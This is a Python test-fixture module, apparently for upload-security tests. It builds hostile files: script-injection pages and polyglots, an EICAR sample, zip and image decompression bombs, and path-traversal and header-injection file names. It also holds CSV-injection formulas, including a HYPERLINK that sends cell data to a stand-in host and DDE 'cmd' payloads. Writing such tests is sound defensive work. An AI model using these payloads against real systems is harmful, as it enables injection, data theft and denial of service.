"""What is put into upload forms to hurt whoever opens it later."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from tests.casework.pictures import photo
from tests.casework.register.zoo import zoo as workbooks
from tests.scanner import EICAR

__all__ = ["DOCUMENTS", "EXIF", "FILE_NAMES", "FORMULAS", "workbooks"]

PIXELS = 50_000


def _zipped(name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, content)
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _huge_picture() -> bytes:
    """Return a picture of 50,000 by 50,000 points in a few kilobytes."""
    head = struct.pack(">IIBBBBB", PIXELS, PIXELS, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes(1_000_000), 9)
    return b"".join(
        [
            b"\x89PNG\r\n\x1a\n",
            _chunk(b"IHDR", head),
            _chunk(b"IDAT", rows),
            _chunk(b"IEND", b""),
        ]
    )


def _photo_with_place() -> bytes:
    """Return the beginning of a JPEG whose EXIF block says where it was taken."""
    place = b"Exif\0\0II*\0\x08\0\0\0\x01\0\x25\x88\x04\0\x01\0\0\0\x1a\0\0\0\0\0\0\0"
    place += b"GPS-47.1585N-27.6014E"
    return b"\xff\xd8\xff\xe1" + struct.pack(">H", len(place) + 2) + place + b"\xff\xd9"


EXIF = _photo_with_place()
SCRIPT = b"<script>alert(document.domain)</script>"
# File name and content, and the media type it may be handed out as.
DOCUMENTS = {
    "a virus": ("invoice.com", EICAR, "application/octet-stream"),
    "a page": ("letter.html", b"<!doctype html>" + SCRIPT, "application/octet-stream"),
    "a page by another name": ("letter.xhtml", SCRIPT, "application/octet-stream"),
    "a drawing with a script": (
        "map.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
        "application/octet-stream",
    ),
    "a script": ("run.js", b"alert(1)", "application/octet-stream"),
    "a PDF that is a ZIP": (
        "both.pdf",
        b"%PDF-1.7\n" + _zipped("evil.exe", b"MZ"),
        "application/octet-stream",
    ),
    "a GIF that is a script": ("both.gif", b"GIF89a/*" + b"*/=1;alert(1)", None),
    "a page that says it is a picture": ("photo.png", b"<html>" + SCRIPT, None),
    "a picture of 50,000 points": ("photo.png", _huge_picture(), "image/png"),
    "a photo with its place": ("photo.jpg", EXIF, "image/jpeg"),
    "a photo with a script behind it": ("photo.jpg", photo(after=SCRIPT), None),
    "a photo that is an archive": ("photo.jpg", photo(after=_zipped("evil.exe", b"MZ")), None),
    "a PDF that is a page": ("letter.pdf", b"%PDF-1.7\n<html>" + SCRIPT, None),
    "a sound that is a page": ("voice.mp3", b"ID3\x04" + SCRIPT, None),
    "a PDF that says it is a picture": ("photo.jpg", b"%PDF-1.7 a contract", "application/pdf"),
    "a photo in another's name": ("letter.pdf", photo(), "image/jpeg"),
    "a picture that lies about its size": ("photo.png", _huge_picture()[:60], "image/png"),
    "a bomb": ("bomb.zip", _zipped("zeros", bytes(20_000_000)), "application/octet-stream"),
    "a workbook with macros": ("a.xlsm", _zipped("xl/vbaProject.bin", b"x"), None),
}
FILE_NAMES = {
    "a way up": "../../../../etc/passwd.pdf",
    "a way up on Windows": "..\\..\\boot.pdf",
    "an absolute path": "/etc/cron.d/x.pdf",
    "turned around": "photo\u202efdp.exe",
    "a header of its own": "a.pdf\r\nSet-Cookie: x=1",
    "a quotation mark": 'a".pdf"; filename="b.html',
    "a null": "a.pdf\x00.html",
    "long": "x" * 400 + ".pdf",
    "markup": "<img src=x onerror=alert(1)>.pdf",
    "templates": "{{ 7|add:7 }}{% now 'Y' %}.pdf",
}
# What a spreadsheet would carry out instead of showing (OWASP, "CSV Injection").
FORMULAS = (
    '=HYPERLINK("http://192.0.2.1/"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
